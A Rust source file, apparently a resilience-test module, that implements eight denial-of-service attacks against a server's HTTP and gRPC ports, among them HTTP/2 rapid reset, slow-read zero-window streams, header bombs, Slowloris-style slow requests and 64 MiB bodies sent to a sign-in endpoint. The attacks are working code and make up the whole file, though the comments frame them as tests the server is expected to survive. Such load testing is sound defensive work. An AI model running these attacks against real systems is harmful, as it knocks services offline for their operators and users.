//! The attacks. Each connection is one attacker; when the server closes it, it comes back.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use anyhow::{Context as _, Result};
use bytes::Bytes;
use h2::{Reason, client::SendRequest};
use http::Request;
use tokio::{
    io::AsyncWriteExt as _,
    net::TcpStream,
    task::{JoinHandle, JoinSet},
};

/// Before an attacker who was thrown out comes back.
const BACK: Duration = Duration::from_millis(100);
/// Between two streams of one attacker: the least that a timer can.
const GAP: Duration = Duration::from_millis(1);
/// Streams that a connection tries to hold open.
const STREAMS: usize = 1_000;
/// Bytes that are sent at once of what is huge.
const PIECE: usize = 64 * 1024;
/// How much of something huge one attacker sends before it begins again.
const HUGE: usize = 64 * 1024 * 1024;

/// One kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// Streams that are reset as soon as they are opened
    RapidReset,
    /// Answers that nobody reads
    SlowRead,
    /// Streams that are opened and never go on
    ManyStreams,
    /// Messages that say they are huge, and are
    HugeMessages,
    /// Headers that fill what may be sent of them
    HeaderBomb,
    /// Connections that say nothing
    Silence,
    /// Requests of which a byte comes now and then
    SlowRequests,
    /// Bodies far larger than anything that is taken
    HugeBodies,
}

/// Whom to attack.
#[derive(Debug, Clone, Copy)]
pub(super) struct Target {
    pub(super) http: SocketAddr,
    pub(super) grpc: SocketAddr,
    pub(super) connections: usize,
}

/// Attackers at work.
pub(super) struct Attackers {
    acts: Arc<AtomicU64>,
    work: JoinHandle<()>,
}

impl Attackers {
    /// Ends them; how often they did what they do.
    pub(super) async fn end(self) -> u64 {
        self.work.abort();
        // Cancelled, as was asked.
        let _cancelled = self.work.await;
        self.acts.load(Ordering::Relaxed)
    }
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::SlowRead,
        Self::ManyStreams,
        Self::HugeMessages,
        Self::HeaderBomb,
        Self::Silence,
        Self::SlowRequests,
        Self::HugeBodies,
    ];

    /// Its name.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid resets",
            Self::SlowRead => "slow readers",
            Self::ManyStreams => "many streams",
            Self::HugeMessages => "huge messages",
            Self::HeaderBomb => "header bombs",
            Self::Silence => "silence",
            Self::SlowRequests => "slow requests",
            Self::HugeBodies => "huge bodies",
        }
    }

    /// Begins it.
    pub(super) fn begin(self, target: &Target) -> Attackers {
        let acts = Arc::<AtomicU64>::default();
        let (counted, target) = (Arc::clone(&acts), *target);
        let work = tokio::spawn(async move {
            let mut attackers = JoinSet::new();
            for _ in 0..target.connections {
                let counted = Arc::clone(&counted);
                attackers.spawn(async move {
                    loop {
                        // That it is thrown out is what should happen.
                        let _thrown_out = self.once(&target, &counted).await;
                        tokio::time::sleep(BACK).await;
                    }
                });
            }
            while attackers.join_next().await.is_some() {}
        });
        Attackers { acts, work }
    }

    /// One connection, until the server closes it.
    async fn once(self, target: &Target, acts: &AtomicU64) -> Result<()> {
        match self {
            Self::RapidReset => {
                let mut sender = connect(target, None).await?;
                for _ in 0..STREAMS {
                    sender = sender.ready().await?;
                    let (_answer, mut stream) = sender.send_request(call()?, false)?;
                    stream.send_reset(Reason::CANCEL);
                    acts.fetch_add(1, Ordering::Relaxed);
                    // What is not sent yet would be kept here, and be no attack.
                    tokio::time::sleep(GAP).await;
                }
                Ok(())
            }
            Self::SlowRead => {
                let mut sender = connect(target, Some(0)).await?;
                let mut held = Vec::new();
                for _ in 0..STREAMS {
                    sender = sender.ready().await?;
                    let (answer, mut stream) = sender.send_request(call()?, false)?;
                    stream.send_data(Bytes::from_static(&[0; 5]), true)?;
                    acts.fetch_add(1, Ordering::Relaxed);
                    held.push((answer, stream));
                    tokio::time::sleep(GAP).await;
                }
                std::future::pending().await
            }
            Self::ManyStreams => {
                let mut sender = connect(target, None).await?;
                let mut held = Vec::new();
                for _ in 0..STREAMS {
                    sender = sender.ready().await?;
                    held.push(sender.send_request(call()?, false)?);
                    acts.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(GAP).await;
                }
                std::future::pending().await
            }
            Self::HugeMessages => {
                let sender = connect(target, None).await?;
                let mut sender = sender.ready().await?;
                let (answer, mut stream) = sender.send_request(call()?, false)?;
                let head = [0, 0x40, 0, 0, 0];
                stream.send_data(Bytes::copy_from_slice(&head), false)?;
                for _ in 0..HUGE / PIECE {
                    stream.reserve_capacity(PIECE);
                    let room = std::future::poll_fn(|context| stream.poll_capacity(context)).await;
                    let room = room.context("the stream is over")??;
                    stream.send_data(Bytes::from(vec![0; room.min(PIECE)]), false)?;
                    acts.fetch_add(1, Ordering::Relaxed);
                }
                drop(answer.await?);
                Ok(())
            }
            Self::HeaderBomb => {
                let mut sender = connect(target, None).await?;
                for _ in 0..STREAMS {
                    sender = sender.ready().await?;
                    let mut call = call()?;
                    for number in 0..64_u32 {
                        let name = http::HeaderName::try_from(format!("x-{number}"))?;
                        call.headers_mut().insert(name, "a".repeat(4_000).parse()?);
                    }
                    let (answer, _stream) = sender.send_request(call, true)?;
                    acts.fetch_add(1, Ordering::Relaxed);
                    drop(answer.await?);
                }
                Ok(())
            }
            Self::Silence => {
                let silent = [TcpStream::connect(target.http), TcpStream::connect(target.grpc)];
                let mut held = Vec::new();
                for connecting in silent {
                    held.push(connecting.await?);
                    acts.fetch_add(1, Ordering::Relaxed);
                }
                std::future::pending().await
            }
            Self::SlowRequests => {
                let mut stream = TcpStream::connect(target.http).await?;
                stream
                    .write_all(b"POST /api/auth/sign-in/email HTTP/1.1\r\nHost: x\r\nX-A: ")
                    .await?;
                loop {
                    stream.write_all(b"a").await?;
                    acts.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(BACK).await;
                }
            }
            Self::HugeBodies => {
                let mut stream = TcpStream::connect(target.http).await?;
                let head = format!(
                    "POST /api/auth/sign-in/email HTTP/1.1\r\nHost: {0}\r\nOrigin: http://{0}\r\n\
                     Content-Type: application/json\r\nContent-Length: {HUGE}\r\n\r\n",
                    target.http
                );
                stream.write_all(head.as_bytes()).await?;
                let piece = vec![b'['; PIECE];
                for _ in 0..HUGE / PIECE {
                    stream.write_all(&piece).await?;
                    acts.fetch_add(1, Ordering::Relaxed);
                }
                Ok(())
            }
        }
    }
}

/// A connection to the public gRPC port, whose streams have so large a window.
async fn connect(target: &Target, window: Option<u32>) -> Result<SendRequest<Bytes>> {
    let stream = TcpStream::connect(target.grpc).await?;
    let mut builder = h2::client::Builder::new();
    if let Some(window) = window {
        builder.initial_window_size(window);
    }
    let (sender, connection) = builder.handshake(stream).await?;
    tokio::spawn(async move {
        // It ends when the server throws the attacker out.
        let _over = connection.await;
    });
    Ok(sender)
}

/// The head of a call that anybody may make.
fn call() -> Result<Request<()>> {
    let request = Request::post("http://chamados/grpc.health.v1.Health/Watch");
    let request = request.header("content-type", "application/grpc").header("te", "trailers");
    Ok(request.body(())?)
}
